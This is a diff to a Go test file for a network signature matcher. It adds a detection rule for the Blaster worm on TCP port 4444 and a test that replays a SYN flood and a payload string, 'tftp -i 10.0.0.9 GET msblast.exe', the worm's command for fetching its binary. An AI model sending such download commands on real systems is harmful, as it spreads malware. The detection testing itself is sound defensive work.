@@ -224,6 +224,51 @@ func TestTCPFlowsBounded(t *testing.T) {
 	}
 }
 
+// port4444Set has one TCP payload rule, on port 4444.
+func port4444Set(t testing.TB) *signatures.Set {
+	t.Helper()
+	set, err := signatures.Parse("t.yaml", []byte(`serial: 1
+signatures:
+  - id: shell
+    family: Blaster
+    payloads:
+      - {proto: tcp, port: 4444, contains: "tftp -i "}
+`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return set
+}
+
+// Handshakes are followed only where a TCP rule looks: a SYN flood to
+// every other port fills no entry, so it cannot push out the handshake on
+// the rule's port, whose payload still earns tcp.
+func TestTCPFlowsOnlyRulePorts(t *testing.T) {
+	var rec evidencetest.Recorder
+	m := NewMatcher(StaticSet{port4444Set(t)}, &rec, Options{TCPFlows: 64})
+	c, s := victim, infected
+	at := baseTime
+	send := func(f []byte) {
+		at = at.Add(time.Millisecond)
+		m.Packet(layers.LinkTypeEthernet, f, Meta{Time: at})
+	}
+	send(seg(t, c, s, 1040, 4444, "S", 1000, 0, ""))
+	send(seg(t, s, c, 4444, 1040, "SA", 5000, 1001, ""))
+	send(seg(t, c, s, 1040, 4444, "A", 1001, 5001, ""))
+	for p := range 10000 {
+		send(seg(t, c, s, uint16(2000+p%2000), uint16(80+p%4000), "S", 1, 0, "")) // never 4444
+	}
+	for _, e := range m.flows.e {
+		if e.state != flowFree && e.key.sport != 4444 {
+			t.Fatalf("entry %+v for a port no rule looks at", e)
+		}
+	}
+	send(seg(t, c, s, 1040, 4444, "A", 1001, 5001, "tftp -i 10.0.0.9 GET msblast.exe"))
+	if got := rec.Events(); len(got) != 1 || got[0].Proof != evidence.ProofTCP {
+		t.Fatalf("events %+v, want one with proof tcp", got)
+	}
+}
+
 // FuzzFlows drives the table with segments among four connections and
 // checks it against a plain map that follows the same rules: with room
 // for them all, the two agree on every segment's verdict.
